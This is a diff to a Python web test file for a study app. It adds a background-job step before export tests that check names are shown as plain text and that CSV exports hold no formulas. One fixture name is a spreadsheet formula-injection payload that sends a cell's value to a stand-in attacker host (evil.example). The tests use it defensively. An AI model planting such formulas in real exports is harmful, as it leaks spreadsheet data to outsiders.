@@ -15,6 +15,7 @@ from studyapp.services.ground.workspace import open_workspace
 from studyapp.services.people import invitations
 from tests.conftest import NOW
 from tests.web.conftest import Browser
+from tests.web.jobs_here import do_jobs
 
 NAMES = {
     "Toms team": '=HYPERLINK("http://evil.example/?"&A1)',
@@ -66,6 +67,7 @@ def test_pages_and_report_show_names_as_text(closed):
     for page in (olga.get("/console").text, jude.get("/judge").text):
         assert_harmless(page)
     assert olga.post("/console/export").status_code == 302
+    assert do_jobs(olga.client.application) == ["done"]
     assert_harmless((folder / "var/exports/report.html").read_text())
 
 
@@ -73,6 +75,7 @@ def test_tables_hold_no_formula(closed):
     folder, olga, _ = closed
     olga.get("/console/ranking")
     assert olga.post("/console/export").status_code == 302
+    assert do_jobs(olga.client.application) == ["done"]
     for path in (folder / "var/exports").glob("*.csv"):
         assert not formulas(path.read_text()), path.name
     printed = CliRunner().invoke(main, ["rank", str(folder), "--format", "csv"]).stdout
